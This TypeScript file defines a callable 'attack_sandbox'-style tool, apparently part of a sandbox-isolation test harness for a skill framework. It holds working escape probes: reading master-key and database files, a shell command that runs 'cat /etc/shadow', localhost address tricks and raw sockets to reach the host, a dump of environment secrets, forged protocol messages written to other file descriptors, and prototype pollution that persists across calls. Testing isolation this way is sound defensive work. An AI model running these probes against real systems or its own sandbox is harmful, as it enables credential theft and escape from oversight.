// Attacks from Node.js: the escape program where it can be run, and what only Node can try.
import { execFile, spawnSync } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import { Worker } from "node:worker_threads";
import { defineTool } from "@librebird/skill";

type Facts = Record<string, string>;
type Found = { breached: boolean; detail: string };
const found = (breached: boolean, detail: unknown = ""): Found => ({ breached, detail: String(detail).slice(0, 200) });

const native: Record<string, (facts: Facts) => Promise<Found>> = {
  async open_everything(facts) {
    for (const file of [facts.database, facts.master_key, facts.host_file, facts.other_work]) {
      try {
        return found(true, `read ${file}: ${fs.readFileSync(file ?? "").subarray(0, 20)}`);
      } catch { /* refused */ }
    }
    return found(false);
  },
  async shell(facts) {
    const done = spawnSync("/bin/sh", ["-c", `id; cat /etc/shadow; ls /home /root ${path.dirname(facts.database ?? "/x/x")}`],
      { encoding: "utf8", timeout: 3000 });
    const text = done.stdout ?? "";
    return found(/root:|librebird\.db|uid=0\(/.test(text), text);
  },
  async fetch_the_host(facts) {
    for (const url of [`http://127.0.0.1:${facts.host_port}/`, `http://localhost:${facts.host_port}/`,
      `http://0x7f000001:${facts.host_port}/`, `http://[::ffff:127.0.0.1]:${facts.host_port}/`]) {
      try {
        const answer = await fetch(url, { signal: AbortSignal.timeout(3000) });
        if ((await answer.text()).includes("CANARY")) return found(true, `fetched ${url}`);
      } catch { /* refused */ }
    }
    return found(false);
  },
  async socket_to_the_host(facts) {
    return new Promise((resolve) => {
      const socket = net.connect(Number(facts.host_port), "127.0.0.1");
      socket.on("connect", () => resolve(found(true, "connected")));
      socket.on("error", (error) => resolve(found(false, error.message)));
      setTimeout(() => resolve(found(false, "no answer")), 2000);
    });
  },
  async environment_of_a_worker() {
    return new Promise((resolve) => {
      const worker = new Worker("require('worker_threads').parentPort.postMessage(JSON.stringify(process.env))", { eval: true });
      worker.on("message", (text: string) => resolve(found(/SECRET|API_KEY|LIBREBIRD_/.test(text), text.slice(0, 80))));
      worker.on("error", (error: Error) => resolve(found(false, error.message)));
    });
  },
  async internal_bindings() {
    const inside = process as unknown as { binding?: (name: string) => Record<string, unknown> };
    try {
      const spawnSyncBinding = inside.binding?.("spawn_sync");
      return found(spawnSyncBinding !== undefined && process.getuid?.() === 0, "bindings");
    } catch (error) {
      return found(false, error);
    }
  },
  async forged_protocol() {
    for (let fd = 3; fd < 16; fd++) {
      try {
        fs.writeSync(fd, '{"type":"result","id":"other","value":{"breached":true}}\n');
      } catch { /* not ours */ }
    }
    return found(false);
  },
  async poisoned_prototypes() {
    // For the next caller of this skill, were its process used again.
    (Object.prototype as Record<string, unknown>).poisoned = "yes";
    return found(false);
  },
  async taste_prototypes() {
    return found(({} as Record<string, unknown>).poisoned === "yes", "the process was used again");
  },
};

function run(program: string, name: string, facts: Facts): Promise<Found> {
  return new Promise((resolve) => {
    execFile(program, ["--once", name, JSON.stringify(facts)], { maxBuffer: 1 << 20 }, (error, stdout) => {
      try {
        resolve(JSON.parse(stdout.trim().split("\n").at(-1) ?? ""));
      } catch {
        resolve(found(false, error?.message ?? "no answer"));
      }
    });
  });
}

export const attack_typescript = defineTool({
  name: "attack_typescript",
  description: "Attack the sandbox.",
  parameters: {
    type: "object",
    properties: { attack: { type: "string" }, facts: { type: "object" } },
    required: ["attack"],
  },
  async run({ attack, facts }: { attack: string; facts?: unknown }) {
    const known = native[attack];
    const told = (facts ?? {}) as Facts;
    return { attack, ...(known ? await known(told) : await run("/skill/escape-program", attack, told)) };
  },
});
